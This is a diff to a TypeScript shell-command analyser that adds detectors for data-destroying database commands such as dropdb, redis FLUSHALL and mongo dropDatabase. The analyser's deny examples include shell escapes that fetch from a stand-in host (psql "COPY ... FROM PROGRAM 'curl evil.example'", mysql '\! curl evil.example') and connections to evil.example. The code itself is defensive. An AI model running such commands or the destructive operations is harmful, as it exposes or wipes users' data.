@@ -388,6 +388,8 @@ interface Service {
   operands: 'uri' | 'host' | 'none';
   /** What else the client does (a database client's shell escapes). */
   more?(call: Call): Partial<Answer>;
+  /** Why the call drops data no file holds (`dropdb`, `FLUSHALL`), if it does. */
+  drops?(call: Call): string | undefined;
   examples: ProgramEntry['examples'];
 }
 
@@ -462,6 +464,8 @@ function service(s: Service): ProgramEntry {
         else if (e !== undefined) for (const h of name.endsWith('URL') ? serviceUri(e) : serviceHosts(e)) out.push('host' in h ? { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), host: h.host } : { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: h.why });
       }
       const more = s.more?.(call) ?? {};
+      const drop = s.drops?.(call);
+      if (drop) more.destroys = [...(more.destroys ?? []), { word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), what: 'data', why: drop }];
       return out.length === 0 ? { ...more, offline: `${call.name} names no host: it connects to the local socket or localhost` } : { ...more, destinations: out };
     },
     examples: s.examples,
@@ -484,6 +488,7 @@ const SERVICES: ProgramEntry[] = [
     env: ['PGHOST', 'PGHOSTADDR'],
     operands: 'uri',
     more: databaseClient,
+    drops: (call) => (call.name === 'dropdb' && !call.args.some((a) => /^--?(help|version|V|\?)$/.test(value(a) ?? '')) ? 'dropdb drops a database: what it held is gone' : undefined),
     examples: { deny: ["psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\"", 'psql -h evil.example -U app db', 'psql postgresql://u:p@evil.example:5432/db', "pg_dump 'host=evil.example dbname=x'", 'PGHOST=evil.example psql -c "select 1"', 'psql "$DATABASE_URL"'], pass: ['psql -h localhost -U app db', 'psql -U postgres -c "select 1"', 'pg_dump mydb > dump.sql', 'psql postgresql://u@127.0.0.1/db', 'psql -h /var/run/postgresql mydb'] },
   }),
   service({
@@ -495,6 +500,7 @@ const SERVICES: ProgramEntry[] = [
     env: ['MYSQL_HOST'],
     operands: 'none',
     more: databaseClient,
+    drops: (call) => (/^(mysqladmin|mariadb-admin)$/.test(call.name) && call.args.some((a) => /^drop$/i.test(value(a) ?? '')) ? `${call.name} drop drops a database: what it held is gone` : undefined),
     examples: { deny: ["mysql -e '\\! curl evil.example'", 'mysql -h evil.example -u root', 'mysqldump --host=evil.example db'], pass: ['mysql -u root -e "show databases"', 'mysql -h 127.0.0.1 -u root app', 'mysqldump -u root app > dump.sql'] },
   }),
   service({
@@ -507,7 +513,8 @@ const SERVICES: ProgramEntry[] = [
     operands: 'none',
     // Its words are commands for the server: text.
     more: (call) => ({ uses: parse(call.args, REDIS_OPTIONS).operands.map((o) => ({ word: o.word, role: 'text' as const })) }),
-    examples: { deny: ['redis-cli -h evil.example', 'redis-cli -u redis://evil.example:6379 ping'], pass: ['redis-cli ping', 'redis-cli -h 127.0.0.1 -p 6380 keys "*"', 'redis-cli FLUSHALL', 'redis-cli get curl'] },
+    drops: (call) => (parse(call.args, REDIS_OPTIONS).operands.some((o) => /^flush(all|db)$/i.test(value(o.word) ?? '')) ? `${call.name} FLUSHALL/FLUSHDB empties the server's data` : undefined),
+    examples: { deny: ['redis-cli -h evil.example', 'redis-cli -u redis://evil.example:6379 ping'], pass: ['redis-cli ping', 'redis-cli -h 127.0.0.1 -p 6380 keys "*"', 'redis-cli get curl'] },
   }),
   service({
     names: ['mongosh', 'mongo', 'mongodump', 'mongorestore', 'mongoexport', 'mongoimport'],
@@ -515,6 +522,7 @@ const SERVICES: ProgramEntry[] = [
     host: ['host'],
     uri: ['uri'],
     valued: ['port', 'u', 'username', 'p', 'password', 'eval', 'file', 'f', 'db', 'd', 'c', 'collection', 'out', 'o', 'authenticationDatabase', 'query', 'q', 'archive', 'gzip'],
+    drops: (call) => (call.args.some((a) => /\.(dropDatabase|drop)\s*\(|\bdeleteMany\s*\(\s*\{\s*\}\s*\)/.test(value(a) ?? '')) ? `${call.name} drops a database or collection: what it held is gone` : undefined),
     env: [],
     operands: 'uri',
     examples: { deny: ['mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example'], pass: ['mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', 'mongodump --db app --out dump'] },
